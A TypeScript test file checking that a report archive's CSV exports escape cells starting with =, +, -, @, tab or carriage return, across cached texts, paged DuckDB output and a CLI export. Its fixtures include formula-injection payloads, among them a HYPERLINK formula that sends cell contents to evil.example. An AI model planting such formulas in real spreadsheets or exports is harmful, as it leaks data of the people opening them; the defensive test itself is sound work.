// CSV answers never hand a spreadsheet a live formula: a text cell that begins with = + - @ tab
// or carriage return gets a leading ' inside its quotes, whether the answer is read from the
// ready texts, built by DuckDB (pages), or exported by the CLI; numbers stay numbers. Ready
// texts stored by releases before the guard are never served: compaction writes new ones.
import fs from 'node:fs/promises';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readyKeyOf, storedIndex } from '../../src/archive/sidecars/index.js';
import { compact } from '../../src/ops/compact.js';
import { REPORTS_PREFIX } from '../../src/store/layout.js';
import { runCli } from '../support/cli.js';
import { allArchived, keysUnder, postReport, report, startTestService, testConfig, testRuntime, type TestService } from '../support/env.js';
import { plainSections, replaceInSections } from '../support/readyTexts.js';

const UA = { 'User-Agent': 'csv-injection-tests/1.0' };
const WINDOW = 'start=2026-11-21T00:00:00Z&end=2026-11-21T23:59:59.999Z';
const DAY_MS = Date.parse('2026-11-21T00:00:00Z');

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', '+1-2', '-2+3', '\tTAB', '\rCR'];

/** One report per hostile title (one per hour), its text hostile too; the last one far south-west. */
const reports = HOSTILE.map((title, i) =>
  report(700 + i, {
    created_at: new Date(DAY_MS + (i + 1) * 3_600_000).toISOString(),
    title,
    text: i % 2 === 0 ? '=1+1' : 'plain text',
    ...(i === HOSTILE.length - 1 && { location: { lat: -33.45, lng: -70.66 } }),
  }),
);

/** Rows by post id, parsed as a spreadsheet-minded reader would. */
function rowsOf(csv: string): Map<number, Record<string, string>> {
  const rows = parseCsv(csv, { columns: true }) as Record<string, string>[];
  return new Map(rows.map((r) => [Number(r.pkey!.split('-').pop()), r]));
}

function expectGuarded(rows: Map<number, Record<string, string>>): void {
  expect(rows.size).toBe(HOSTILE.length);
  HOSTILE.forEach((title, i) => {
    const row = rows.get(700 + i)!;
    expect(row.title).toBe(`'${title}`);
    expect(row.text).toBe(i % 2 === 0 ? `'=1+1` : 'plain text');
  });
  // Negative coordinates are numbers, left as they are.
  const south = rows.get(700 + HOSTILE.length - 1)!;
  expect([south.lng, south.lat]).toEqual(['-70.66', '-33.45']);
}

describe('CSV formula injection', () => {
  let svc: TestService;
  beforeAll(async () => {
    svc = await startTestService(await testRuntime(await testConfig('embedded')));
    for (const body of reports) expect((await postReport(svc.url, body)).status).toBe(201);
    await allArchived(svc.rt);
    // One part for the day, with its ready texts: whole-window answers are read from them.
    await compact(svc.rt, { fromMs: DAY_MS, toMs: DAY_MS + 86_399_999, closedBeforeMs: Date.now() });
    expect(await keysUnder(svc.rt, REPORTS_PREFIX)).toHaveLength(1);
  }, 60_000);
  afterAll(async () => {
    await svc?.stop();
  });

  async function pull(query = ''): Promise<Response> {
    const res = await fetch(`${svc.url}/reports/archive?${WINDOW}&format=csv${query}`, { headers: UA });
    expect(res.status).toBe(200);
    return res;
  }

  it('guards every hostile text cell of a whole window (ready texts) and of its pages (DuckDB)', async () => {
    const [part] = await keysUnder(svc.rt, REPORTS_PREFIX);
    expect(await storedIndex(svc.rt.store, readyKeyOf(part!))).toBeDefined();
    const whole = await (await pull()).text();
    expectGuarded(rowsOf(whole));

    let csv = '';
    let next: string | undefined = `${svc.url}/reports/archive?${WINDOW}&format=csv&limit=4`;
    while (next) {
      const res = await fetch(next, { headers: UA });
      expect(res.status).toBe(200);
      const text = await res.text();
      csv += csv ? text.slice(text.indexOf('\n') + 1) : text;
      next = /^<([^>]+)>; rel="next"$/.exec(res.headers.get('link') ?? '')?.[1];
    }
    expect(csv).toBe(whole);
  });

  it('guards the CLI export too', async () => {
    const out = path.join(svc.rt.config.dataDir, 'export.csv');
    const run = await runCli(['export', '--from', '2026-11-21T00:00:00Z', '--to', '2026-11-21T23:59:59.999Z', '--format', 'csv', '--out', out], {
      DATA_DIR: svc.rt.config.dataDir,
      API_KEYS: svc.rt.config.apiKeys.map((k) => k.key).join(','),
    });
    expect(run.code, run.stderr).toBe(0);
    expectGuarded(rowsOf(await fs.readFile(out, 'utf8')));
    // Its progress, a JSON line at the start and at the end when stderr is not a terminal: the window's one day.
    const lines = run.stderr.split('\n').filter((l) => l.startsWith('{"progress"')).map((l) => JSON.parse(l));
    expect(lines[0]).toMatchObject({ progress: 'export', state: 'started', done: 0, total: 1 });
    expect(lines.at(-1)).toMatchObject({ progress: 'export', state: 'done', done: 1, total: 1, rate: expect.any(Number) });
  });

  it('never serves ready texts stored before the guard, and compaction writes them anew', async () => {
    const [part] = await keysUnder(svc.rt, REPORTS_PREFIX);
    const key = readyKeyOf(part!);
    const before = await (await pull()).text();
    // The sidecar as a release before the guard stored it: under ready/v2/, version 2, the
    // cell a live formula (same length, so its byte offsets hold).
    const stored = replaceInSections((await svc.rt.store.get(key))!.body, `"'=HYPERLINK(`, `"=HYPERLINK((`);
    expect(plainSections(stored).includes(`"=HYPERLINK((`)).toBe(true);
    const eol = stored.indexOf(10);
    const index = { ...JSON.parse(stored.subarray(0, eol).toString('utf8')), version: 2 };
    const oldKey = key.replace(/^ready\/v7\//, 'ready/v2/');
    await svc.rt.store.delete([key]);
    await svc.rt.store.put(oldKey, Buffer.concat([Buffer.from(`${JSON.stringify(index)}\n`), stored.subarray(eol + 1)]));

    expect(await (await pull()).text()).toBe(before);
    await compact(svc.rt, { fromMs: DAY_MS, toMs: DAY_MS + 86_399_999, closedBeforeMs: Date.now() });
    expect((await storedIndex(svc.rt.store, key))?.version).toBe(7);
    expect(await keysUnder(svc.rt, 'ready/v2/')).toEqual([]);
    expect(await (await pull()).text()).toBe(before);
  }, 60_000);
});
